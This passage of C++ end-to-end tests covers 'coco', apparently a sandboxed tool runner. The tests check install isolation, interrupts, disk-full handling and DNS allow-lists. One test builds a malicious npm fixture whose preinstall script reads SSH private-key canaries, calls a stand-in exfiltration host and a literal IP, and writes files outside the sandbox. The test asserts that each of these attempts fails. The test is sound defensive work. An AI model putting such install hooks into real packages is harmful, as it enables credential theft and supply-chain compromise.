  fs::remove_all(layerDir, ec);

  // The canary in the invoking user's real HOME, and the host project's state.
  fs::create_directories(home_.path() + "/.ssh");
  writeFile(home_.path() + "/.ssh/id_rsa", "COCO-CANARY-PRIVATE-KEY\n");
  writeFile(project() + "/keep.txt", "unchanged\n");
  auto listing = [&] {
    std::string all;
    for (const auto& e : fs::recursive_directory_iterator(home_.path()))
      // data: coco's own; .npm: logs of the host's npm, which coco asks for its registry.
      if (e.path().string().rfind(home_.path() + "/data", 0) != 0 &&
          e.path().string().rfind(home_.path() + "/.npm", 0) != 0)
        all += e.path().string() + "\n";
    return all;
  };

  TempDir pkg("coco-life-malpkg");
  fs::create_directories(pkg / "package");
  writeFile(pkg / "package/package.json",
            "{\"name\": \"coco-malicious-fixture\", \"version\": \"1.0.0\", \"bin\": {\"malfix\": \"bin.js\"},"
            " \"scripts\": {\"preinstall\": \"sh ./evil.sh\"}}\n");
  // Each attempt says what it got in attempts.txt, in the package's own dir.
  writeFile(pkg / "package/evil.sh",
            "r=./attempts.txt\n"
            "echo \"home=$HOME\" >> $r\n"
            "for f in \"$HOME/.ssh/id_rsa\" '" + home_.path() + "/.ssh/id_rsa'; do\n"
            "  if c=$(cat \"$f\" 2>/dev/null); then echo \"ssh: READ $f $c\" >> $r; else echo \"ssh: denied $f\" >> $r; fi\n"
            "done\n"
            "if node -e \"fetch('https://exfil.example.test/').then(() => process.exit(0), () => process.exit(1))\";"
            " then echo 'fetch: REACHED' >> $r; else echo 'fetch: failed' >> $r; fi\n"
            // A literal address: the TCP handshake may complete (with the
            // gateway, which then closes), so the attempt is a whole request.
            "if node -e \"fetch('https://192.0.2.1/', {signal: AbortSignal.timeout(10000)})"
            ".then(() => process.exit(0), () => process.exit(1))\";"
            " then echo 'ip: REACHED' >> $r; else echo 'ip: failed' >> $r; fi\n"
            "for f in /workspace/pwned /workspace/../pwned '" + project() + "/pwned' '" + home_.path() +
            "/pwned'; do\n"
            "  if echo pwned > \"$f\" 2>/dev/null; then echo \"write: inside-sandbox $f\" >> $r;"
            " else echo \"write: denied $f\" >> $r; fi\n"
            "done\n"
            "echo done >> $r\n");
  packFixture(pkg, "attempts.txt", cacheDir + "/mise/malfix.tgz");

  writeFile(home_.path() + "/data/coco/tools/" + name + ".json",
            "{\"tool\": \"npm:is-number[npm_args=--ignore-scripts=false]@/root/.cache/mise/malfix.tgz\","
            " \"command\": \"malfix\", \"isolated\": true, \"network\": \"none\","
            " \"mounts\": [{\"src\": \".\", \"dst\": \"/workspace\"}]}\n");
  std::string before = listing();
  Proc p = coco({"run", name}, 600);
  ASSERT_EQ(p.code, 0) << p.out << p.err;
  EXPECT_TRUE(contains(p.err, "coco: [1/2] installing " + name)) << p.err;

  // The script ran to its end, and every attempt failed.
  EXPECT_TRUE(contains(p.out, "home=/root\n")) << p.out;
  EXPECT_TRUE(contains(p.out, "\ndone\n")) << "the install script did not run to its end:\n" << p.out;
  EXPECT_FALSE(contains(p.out, "READ")) << p.out;
  EXPECT_FALSE(contains(p.out, "COCO-CANARY")) << p.out;
  EXPECT_TRUE(contains(p.out, "ssh: denied /root/.ssh/id_rsa\n")) << p.out;
  EXPECT_TRUE(contains(p.out, "ssh: denied " + home_.path() + "/.ssh/id_rsa\n")) << p.out;
  EXPECT_TRUE(contains(p.out, "fetch: failed\n")) << p.out;
  EXPECT_TRUE(contains(p.out, "ip: failed\n")) << p.out;
  EXPECT_TRUE(contains(p.err, "coco: blocked lookup of exfil.example.test")) << p.err;
  // An install's refusal names the install's two ways out, not allowed_hosts.
  EXPECT_TRUE(contains(p.err, "add \"exfil.example.test\" to install_hosts")) << p.err;
  EXPECT_TRUE(contains(p.err, "COCO_INSTALL_NETWORK=host")) << p.err;
  EXPECT_TRUE(contains(p.err, "blocked connection to 192.0.2.1")) << p.err;

  // Whatever the writes did inside the sandbox, the host saw none of it.
  EXPECT_EQ(listing(), before);
  EXPECT_EQ(readFile(project() + "/keep.txt"), "unchanged\n");
  EXPECT_FALSE(fs::exists(project() + "/pwned"));
  EXPECT_FALSE(fs::exists(home_.path() + "/pwned"));

  fs::remove_all(layerDir, ec);
  fs::remove_all(cacheDir, ec);
}

// Ctrl-C (SIGINT to the foreground process group, as a terminal sends it) and
// kill -9 of coco alone, both while the first run installs: no layer is
// committed, and the next run installs again and works; nothing is left behind.
TEST_F(EndToEnd, AnInterruptedInstallCommitsNothingAndTheNextRunInstalls) {
  std::string name = "intr" + std::to_string(getpid());
  std::string toolDir = store_ + "/tool-layers/" + name;
  writeFile(home_.path() + "/data/coco/tools/" + name + ".json",
            "{\"tool\": \"npm:typescript\", \"command\": \"tsc\", \"network\": \"none\"}\n");
  auto committedLayers = [&] {
    int n = 0;
    std::error_code ec;
    for (const auto& e : fs::directory_iterator(toolDir, ec))
      n += e.is_directory() && e.path().filename().string()[0] != '.';
    return n;
  };
  for (int sig : {SIGINT, SIGKILL}) {
    SCOPED_TRACE(sig == SIGINT ? "SIGINT to the process group" : "SIGKILL to coco");
    TempDir io("coco-life-intr");
    std::string errPath = io / "err";
    std::vector<std::string> e = env();
    pid_t pid = fork();
    if (pid == 0) {
      int err = open(errPath.c_str(), O_WRONLY | O_CREAT | O_TRUNC, 0600);
      int null = open("/dev/null", O_RDWR);
      if (err < 0 || null < 0 || chdir(project().c_str()) != 0) _exit(124);
      dup2(null, 0);
      dup2(null, 1);
      dup2(err, 2);
      setpgid(0, 0);
      std::vector<char*> a = {const_cast<char*>(coco_.c_str()), const_cast<char*>("run"),
                              const_cast<char*>(name.c_str()), const_cast<char*>("--version"), nullptr};
      std::vector<char*> ev;
      for (const auto& s : e) ev.push_back(const_cast<char*>(s.c_str()));
      ev.push_back(nullptr);
      execve(a[0], a.data(), ev.data());
      _exit(127);
    }
    // Interrupted once the install sandbox is at work (mise fetching typescript).
    auto deadline = std::chrono::steady_clock::now() + std::chrono::seconds(300);
    while (!contains(readFile(errPath), "installing " + name) && std::chrono::steady_clock::now() < deadline)
      std::this_thread::sleep_for(std::chrono::milliseconds(20));
    std::this_thread::sleep_for(std::chrono::milliseconds(700));
    int status = 0;
    ASSERT_EQ(waitpid(pid, &status, WNOHANG), 0) << "the install ended before it could be interrupted:\n"
                                                 << readFile(errPath);
    if (sig == SIGINT) kill(-pid, SIGINT);
    else kill(pid, SIGKILL);
    waitpid(pid, &status, 0);
    if (sig == SIGINT) {
      // coco forwards Ctrl-C to the install, says so and exits as interrupted.
      EXPECT_TRUE(WIFEXITED(status) && WEXITSTATUS(status) == 130) << status << "\n" << readFile(errPath);
      EXPECT_TRUE(contains(readFile(errPath), "was interrupted (INT); nothing of it was kept")) << readFile(errPath);
    } else {
      EXPECT_TRUE(WIFSIGNALED(status) && WTERMSIG(status) == SIGKILL) << status;
    }
    EXPECT_EQ(committedLayers(), 0) << "an interrupted install left a layer\n" << readFile(errPath);
  }
  Proc next = coco({"run", name, "--version"}, 900);
  EXPECT_EQ(next.code, 0) << next.err;
  EXPECT_TRUE(contains(next.err, "coco: [1/2] installing " + name)) << next.err;
  EXPECT_TRUE(std::regex_search(next.out, std::regex("^Version [0-9]+\\.[0-9]+"))) << next.out;
  EXPECT_EQ(committedLayers(), 1);
  // coco asked the host's npm for its registry; that left nothing in the home.
  EXPECT_FALSE(fs::exists(home_.path() + "/.npm"));
  std::vector<std::string> leftovers;
  std::error_code ec;
  for (const auto& e : fs::directory_iterator(toolDir, ec))
    if (e.path().filename().string().rfind(".build-", 0) == 0) leftovers.push_back(e.path().filename());
  EXPECT_TRUE(leftovers.empty()) << "left by the interrupted installs: " << leftovers.front();
  fs::remove_all(toolDir, ec);
}

// dependencies.apt: installed with apt from the Debian mirror of the image's own
// sources into the tool's layer (as either id mapping: with a single one apt
// cannot drop to _apt), there for the tool and for no other tool.
TEST_F(EndToEnd, AptDependenciesGoIntoTheToolsLayerOnly) {
  std::string name = "jqdep" + std::to_string(getpid());
  writeFile(home_.path() + "/data/coco/tools/" + name + ".json",
            "{\"command\": \"jq\", \"dependencies\": {\"apt\": [\"jq\"]}, \"network\": \"none\"}\n");
  Proc p = coco({"run", name, "-n", "[1, 2] | add"}, 900);
  ASSERT_EQ(p.code, 0) << p.out << p.err;
  EXPECT_EQ(p.out, "3\n");
  EXPECT_TRUE(contains(p.err, "coco: [1/1] installing the dependencies of " + name)) << p.err;
  Proc warm = coco({"run", name, "-n", "\"warm\""});
  EXPECT_EQ(warm.out, "\"warm\"\n");
  EXPECT_EQ(warm.err, "");

  writeFile(home_.path() + "/data/coco/tools/basesh.json", "{\"command\": \"sh\", \"network\": \"none\"}\n");
  Proc other = coco({"run", "basesh", "-c", "command -v jq || echo no-jq"}, 120);
  EXPECT_EQ(other.out, "no-jq\n") << other.err;
  std::error_code ec;
  fs::remove_all(store_ + "/tool-layers/" + name, ec);
}

// Disk full: the tool's layers sit on a filesystem of a few MiB (tests/run-all
// mounts one: an unprivileged user cannot), too small for typescript. The
// install fails saying why, commits nothing, cleans up, and once there is room
// the next run installs.
TEST_F(EndToEnd, AnInstallThatFillsTheDiskCommitsNothingAndSaysWhy) {
  const char* small = getenv("COCO_TEST_SMALL_FS");
  if (!small || !*small) {
    if (cocotest::inCi()) FAIL() << "COCO_TEST_SMALL_FS must be set in CI (tests/run-all sets it)";
    GTEST_SKIP() << "COCO_TEST_SMALL_FS unset: no small filesystem to fill (run tests/run-all)";
  }
  std::string name = "full" + std::to_string(getpid());
  std::string onSmall = std::string(small) + "/" + name, toolDir = store_ + "/tool-layers/" + name;
  fs::create_directories(onSmall);
  fs::create_directories(store_ + "/tool-layers");
  fs::create_directory_symlink(onSmall, toolDir);
  writeFile(home_.path() + "/data/coco/tools/" + name + ".json",
            "{\"tool\": \"npm:typescript\", \"command\": \"tsc\", \"network\": \"none\"}\n");
  Proc full = coco({"run", name, "--version"}, 900);
  EXPECT_EQ(full.code, 125) << full.out << full.err;
  EXPECT_TRUE(contains(full.err, "coco: error: installing " + name)) << full.err;
  EXPECT_TRUE(contains(full.err, "out of disk space in " + toolDir)) << full.err;
  std::vector<std::string> left;
  for (const auto& e : fs::directory_iterator(onSmall))
    if (e.path().filename() != "lock" && e.path().filename() != "install.log") left.push_back(e.path().filename());
  EXPECT_TRUE(left.empty()) << "left on the full filesystem: " << left.front();

  fs::remove(toolDir);  // room again: the store's own disk
  Proc next = coco({"run", name, "--version"}, 900);
  EXPECT_EQ(next.code, 0) << next.err;
  EXPECT_TRUE(std::regex_search(next.out, std::regex("^Version [0-9]+\\.[0-9]+"))) << next.out;
  std::error_code ec;
  fs::remove_all(toolDir, ec);
  fs::remove_all(onSmall, ec);
}

// A fixture package (never published) whose install script looks up one name,
// installed like the malicious one above: with `install_hosts` naming it, the
// lookup goes out (and fails upstream: .test names do not exist); without, the
// gateway refuses it and says how to allow it. network: none holds for the runs.
TEST_F(EndToEnd, InstallHostsOpenANameToTheInstallOnly) {
  TempDir pkg("coco-life-probepkg");
  fs::create_directories(pkg / "package");
  writeFile(pkg / "package/package.json",
            "{\"name\": \"coco-lookup-fixture\", \"version\": \"1.0.0\", \"bin\": {\"probe\": \"bin.js\"},"
            " \"scripts\": {\"preinstall\": \"node lookup.js\"}}\n");
  writeFile(pkg / "package/lookup.js",
            "require('dns').lookup('install-probe.example.test', (e) => {\n"
            "  require('fs').writeFileSync(__dirname + '/lookup.txt', (e ? e.code : 'found') + '\\n');\n"
            "});\n");
  std::error_code ec;
  for (bool listed : {true, false}) {
    std::string name = (listed ? "lookok" : "lookno") + std::to_string(getpid());
    std::string cacheDir = store_ + "-cache/coco/cache/tools/" + name;
    packFixture(pkg, "lookup.txt", cacheDir + "/mise/probe.tgz");
    writeFile(home_.path() + "/data/coco/tools/" + name + ".json",
              "{\"tool\": \"npm:is-number@/root/.cache/mise/probe.tgz\", \"command\": \"probe\", \"isolated\": true,"
              " \"network\": \"none\"" +
                  std::string(listed ? ", \"install_hosts\": [\"install-probe.example.test\"]" : "") + "}\n");
    Proc p = coco({"run", name}, 600);
    ASSERT_EQ(p.code, 0) << p.out << p.err;
    // The install script ran (npm's scripts are on in the install phase) and its lookup failed either way.
    EXPECT_EQ(p.out, "ENOTFOUND\n") << p.err;
    EXPECT_EQ(contains(p.err, "blocked lookup of install-probe.example.test"), !listed) << p.err;
    if (!listed) {
      EXPECT_TRUE(contains(p.err, "add \"install-probe.example.test\" to install_hosts in its config")) << p.err;
      EXPECT_TRUE(contains(p.err, "COCO_INSTALL_NETWORK=host")) << p.err;
    }
    Proc show = coco({"show", name});
    EXPECT_EQ(show.code, 0) << show.err;
    EXPECT_EQ(contains(show.out, "install-probe.example.test (install_hosts)"), listed) << show.out;
    EXPECT_TRUE(contains(show.out, "(derived)")) << show.out;  // the npm registry, read from npm's configuration
    fs::remove_all(store_ + "/tool-layers/" + name, ec);
    fs::remove_all(cacheDir, ec);
  }
}

// An install whose tool cannot start is no install: the start's own output is
// in the message, and no layer is committed (the next run tries again).
TEST_F(EndToEnd, AToolThatDoesNotStartIsNotInstalled) {
  std::string name = "nostart" + std::to_string(getpid());
  writeFile(home_.path() + "/data/coco/tools/" + name + ".json",
            "{\"tool\": \"npm:typescript\", \"command\": \"tsc\", \"check\": [\"--no-such-flag\"],"
            " \"network\": \"none\"}\n");
  Proc p = coco({"run", name, "--version"}, 600);
  EXPECT_EQ(p.code, 125) << p.out << p.err;
  EXPECT_TRUE(contains(p.err, "the tool does not start (`tsc --no-such-flag` exited with status")) << p.err;
  EXPECT_TRUE(contains(p.err, "no-such-flag'")) << "tsc's own message is missing:\n" << p.err;
  EXPECT_FALSE(contains(p.err, "coco: installed")) << p.err;
  EXPECT_EQ(p.out, "");
  bool committed = false;
  for (const auto& e : fs::directory_iterator(store_ + "/tool-layers/" + name))
    committed |= e.is_directory() && e.path().filename().string()[0] != '.';
  EXPECT_FALSE(committed) << "a tool that does not start left a layer";
  std::error_code ec;
  fs::remove_all(store_ + "/tool-layers/" + name, ec);
}

// node, npm and npx from the store are the base image's (no install, no second
// node); claude's native binary comes from its npm install script.
TEST_F(EndToEnd, ClaudeNodeNpmAndNpxFromTheStoreStart) {
  for (const char* tool : {"node", "npm", "npx"}) {
    getTool(tool);
    Proc p = coco({"run", tool, "--version"}, 120);
    EXPECT_EQ(p.code, 0) << tool << ": " << p.out << p.err;
    EXPECT_TRUE(std::regex_match(p.out, std::regex("v?[0-9]+\\.[0-9]+\\.[0-9]+\n"))) << tool << ": " << p.out;
    EXPECT_FALSE(contains(p.err, "installing")) << tool << ": " << p.err;
  }
  getTool("claude");
  Proc claude = firstRun("claude", {"--version"});
  ASSERT_EQ(claude.code, 0) << claude.out << claude.err;
  EXPECT_TRUE(std::regex_search(claude.out, std::regex("^[0-9]+\\.[0-9]+\\.[0-9]+ \\(Claude Code\\)\n"))) << claude.out;
}

std::vector<std::string> storeToolNames(const std::string& dir) {
  std::vector<std::string> names;
  for (const auto& e : fs::directory_iterator(dir)) {
    std::string ext = e.path().extension(), stem = e.path().stem();
    if (ext == ".json" || ext == ".yaml" || ext == ".yml") names.push_back(stem);
  }
  std::sort(names.begin(), names.end());
  return names;
}

// Issue 12: every bundled tool's install may look up the hosts its downloads
// use. For all store configs: the dry run works, and (but for npm: tools,
// whose registry this machine reaches, so they would really install) an
// install with the gateway's upstream DNS pointed at a logging stub shows no
// lookup refused by coco's policy; the stub saw the lookups, and each failed
// upstream, as it must on a machine without GitHub, PyPI, nodejs.org ...
TEST_F(EndToEnd, EveryStoreToolsInstallLooksUpOnlyAllowedHosts) {
  std::string storeDir = envOr("COCO_TEST_STORE_SRC", "");
  ASSERT_FALSE(storeDir.empty()) << "COCO_TEST_STORE_SRC must name the source tree's store/";
  auto names = storeToolNames(storeDir);
  ASSERT_GE(names.size(), 28u) << storeDir;
  // The gateway's upstream (COCO_DNS_UPSTREAM): it logs every name and answers
  // NXDOMAIN, so an install's downloads fail upstream (this machine reaches no
  // GitHub, PyPI ...) after coco's policy let their lookups through.
  coco::net::testing::LoggingDnsServer dns(
      [](const coco::net::dns::Query& q, std::span<const uint8_t>) {
        return coco::net::dns::buildResponse(q, coco::net::dns::Rcode::NxDomain);
      });
  std::map<std::string, std::set<std::string>> asked;
  auto started = std::chrono::steady_clock::now();
  int attempts = 0;
  for (const auto& name : names) {
    std::vector<std::string> extra = {"COCO_STORE_DIR=" + storeDir, "COCO_DNS_UPSTREAM=" + dns.address()};
    Proc get = runProc({coco_, "get", name}, env(extra), project(), 60);
    ASSERT_EQ(get.code, 0) << name << ": " << get.err;
    Proc dry = runProc({coco_, "run", "--dry-run", name}, env(extra), project(), 60);
    EXPECT_EQ(dry.code, 0) << name << ": " << dry.out << dry.err;
    std::string config = readFile(storeDir + "/" + name + ".json");
    bool npm = contains(config, "\"npm:");
    bool hasTool = contains(config, "\"tool\"");
    if (npm || !hasTool) continue;  // npm: installs really happen here; a config without a tool installs nothing
    std::error_code ec;
    fs::remove_all(store_ + "/tool-layers/" + name, ec);  // nothing of these can have installed here
    dns.take();
    Proc run = runProc({coco_, "run", name, "--version"}, env(extra), project(), 240);
    ++attempts;
    asked[name] = dns.take();
    std::printf("[ timing ] %s install attempt: %.1fs, exit %d, asked %zu names\n", name.c_str(), run.secs, run.code,
                asked[name].size());
    EXPECT_TRUE(contains(run.err, "installing " + name)) << name << ": " << run.err;
    EXPECT_FALSE(contains(run.err, "blocked lookup")) << name << ": coco's policy refused a lookup:\n" << run.err;
    EXPECT_FALSE(contains(run.err, "blocked connection")) << name << ":\n" << run.err;
    EXPECT_FALSE(asked[name].empty()) << name << ": the install looked nothing up:\n" << run.err;
  }
  std::printf("[ timing ] %d install attempts: %.1fs\n", attempts,
              std::chrono::duration<double>(std::chrono::steady_clock::now() - started).count());
  auto askedAny = [&](const std::string& name, std::initializer_list<const char*> hosts) {
    if (!asked.count(name)) return ::testing::AssertionFailure() << name << " made no install attempt";
    for (const char* h : hosts)
      if (asked[name].count(h)) return ::testing::AssertionSuccess();
    std::string seen;
    for (const auto& a : asked[name]) seen += a + " ";
    return ::testing::AssertionFailure() << name << " asked: " << seen;
  };
  EXPECT_TRUE(askedAny("rg", {"api.github.com", "github.com"}));
  EXPECT_TRUE(askedAny("bat", {"api.github.com", "github.com"}));
  EXPECT_TRUE(askedAny("python", {"github.com", "mise-versions.jdx.dev"}));  // pyenv's repo first
  EXPECT_TRUE(askedAny("go", {"dl.google.com", "github.com", "go.dev"}));
  EXPECT_TRUE(askedAny("rustc", {"sh.rustup.rs", "static.rust-lang.org", "api.github.com"}));
  EXPECT_TRUE(askedAny("black", {"api.github.com", "github.com", "pypi.org"}));
  if (asked.count("node")) {
    EXPECT_TRUE(askedAny("node", {"nodejs.org"}));
  }
}

}  // namespace
